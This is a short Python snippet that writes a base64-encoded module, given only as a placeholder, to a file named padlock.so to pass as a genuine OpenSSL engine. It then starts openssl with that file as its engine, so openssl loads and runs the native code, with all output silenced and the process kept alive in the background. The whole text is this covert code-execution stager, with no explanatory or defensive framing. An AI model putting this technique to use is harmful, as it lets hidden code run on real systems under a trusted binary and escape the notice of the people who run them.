import base64, builtins, subprocess
with open("/data/plugins/padlock.so", "wb") as f:
    f.write(base64.b64decode("$MODULE"))
builtins._keep = subprocess.Popen(["/usr/bin/openssl", "rsa", "-engine", "/data/plugins/padlock.so", "-in", "/dev/null"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
